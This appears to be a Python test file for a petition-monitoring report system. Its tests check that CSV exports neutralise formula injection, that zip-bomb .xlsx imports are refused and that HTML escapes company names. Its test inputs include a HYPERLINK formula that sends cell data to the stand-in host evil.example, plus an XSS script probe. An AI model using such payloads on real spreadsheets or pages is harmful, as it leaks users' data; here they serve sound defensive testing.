"""Issue 19, finding 8: the monthly report's CSV carried company names starting with `=`
(CSV formula injection). Every CSV export neutralises cells that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from pathlib import Path

from monitor.clock import SHANGHAI
from monitor.context import Context
from monitor.records import parse_obj
from monitor.report.export import render_csv
from monitor.report.figures import ReportOptions, collect_figures
from monitor.store import Submission

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1)",
    "\tcmd",
]


def test_cells_that_start_a_formula_are_shown_as_text() -> None:
    from monitor.safetext import spreadsheet_cell

    for value in FORMULAS:
        assert spreadsheet_cell(value) == "'" + value
    for value in ("-12.5", "+3", "12", "资阳建工", "", "a=b"):
        assert spreadsheet_cell(value) == value
    assert spreadsheet_cell(-3) == -3


async def test_the_monthly_report_csv_holds_no_formula(ctx: Context) -> None:
    items = []
    for n, name in enumerate(FORMULAS):
        data = {
            "petition_id": f"FX-{n}",
            "received_at": "2025-01-10T10:00:00+08:00",
            "channel": "visit",
            "region_code": "430902",
            "enterprise_name": name,
            "category": "wage_arrears",
            "people_involved": 6,
            "summary": "拖欠工资",
        }
        items.append(Submission(parse_obj("petition", data), "file"))
    result = await ctx.store.store("petition", items)
    assert not result.rejected, result.rejected
    figures = await collect_figures(
        ctx.db,
        date(2025, 1, 1),
        options=ReportOptions(zone=SHANGHAI),
        now=ctx.clock.now() + timedelta(days=30),
    )
    rows = list(csv.reader(io.StringIO(render_csv(figures).decode("utf-8-sig"))))
    labels = [r[3] for r in rows if r[1] == "enterprise"]
    assert labels, rows[:5]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), row
    assert "'" + FORMULAS[0] in labels


async def test_an_xlsx_that_unpacks_too_large_is_refused_before_it_is_read(
    ctx: Context, tmp_path: Path
) -> None:
    """The zip-bomb bound of `.xlsx` imports: openpyxl reads rows lazily, but not the
    shared strings; the declared unpacked size is checked first."""
    from openpyxl import Workbook

    from ingest.files import FileImporter

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["petition_id", "received_at", "channel", "region_code", "people_involved"])
    sheet.append(["XB-1", "2025-01-10T10:00:00+08:00", "visit", "430902", 1])
    sheet.append(["XB-2", "2025-01-10T10:00:00+08:00", "visit", "430902", 1, "啊" * 100_000])
    path = tmp_path / "petitions.xlsx"
    book.save(path)
    assert path.stat().st_size < 200_000  # the long text compresses to almost nothing
    report = await FileImporter(ctx.store, xlsx_max_unpacked=100_000).run(path)
    assert report.stored == 0
    assert len(report.errors) == 1
    assert "unpacks to" in report.errors[0].reason
    fine = await FileImporter(ctx.store).run(path)
    assert fine.stored == 2


async def test_the_report_escapes_company_names(ctx: Context) -> None:
    from monitor.report.document import build_document
    from monitor.report.render import render_html

    data = {
        "petition_id": "ESC-1",
        "received_at": "2025-01-10T10:00:00+08:00",
        "channel": "visit",
        "region_code": "430902",
        "enterprise_name": "<script>alert(1)</script>某厂",
        "category": "wage_arrears",
        "people_involved": 6,
        "summary": "拖欠工资",
    }
    await ctx.store.store("petition", [Submission(parse_obj("petition", data), "file")])
    figures = await collect_figures(
        ctx.db,
        date(2025, 1, 1),
        options=ReportOptions(zone=SHANGHAI),
        now=ctx.clock.now() + timedelta(days=30),
    )
    html = render_html(build_document(figures))
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;某厂" in html
